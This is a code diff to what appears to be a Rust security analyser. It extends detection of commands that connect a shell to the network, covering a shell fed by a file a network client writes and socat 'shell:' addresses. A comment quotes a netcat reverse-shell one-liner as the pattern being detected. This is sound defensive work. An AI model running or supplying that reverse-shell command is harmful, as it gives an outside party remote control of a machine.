@@ -289,7 +289,10 @@ fn remote_shell(analysis: &Analysis, index: usize, inv: &Invocation, out: &mut V
                 .invocations
                 .iter()
                 .any(|o| network(o) && (analysis.upstream(o, inv) || (shell && analysis.upstream(inv, o)))));
-    if runs_socket || wired || runs_for_peer(inv) {
+    // A shell reading a file a network client writes (`sh -i < /tmp/f 2>&1 | nc h p > /tmp/f`).
+    let fed_by_network =
+        inv.runs_files.iter().any(|f| analysis.invocations.iter().any(|o| network(o) && o.writes.contains(f)));
+    if runs_socket || wired || fed_by_network || runs_for_peer(inv) {
         out.push(finding(
             rules::EXEC_DOWNLOAD_EXECUTE,
             format!("{} connects a shell to the network, which runs whatever the other end sends.", Quoted(inv)),
@@ -324,7 +327,8 @@ fn runs_for_peer(inv: &Invocation) -> bool {
         }),
         "socat" => {
             let lower: Vec<String> = words().map(str::to_ascii_lowercase).collect();
-            let runs = lower.iter().any(|w| w.starts_with("exec:") || w.starts_with("system:"));
+            let runs =
+                lower.iter().any(|w| w.starts_with("exec:") || w.starts_with("system:") || w.starts_with("shell:"));
             let remote = ["tcp", "udp", "ssl", "openssl", "sctp", "socks", "proxy", "dccp"];
             runs && lower.iter().any(|w| remote.iter().any(|r| w.starts_with(r)))
         }
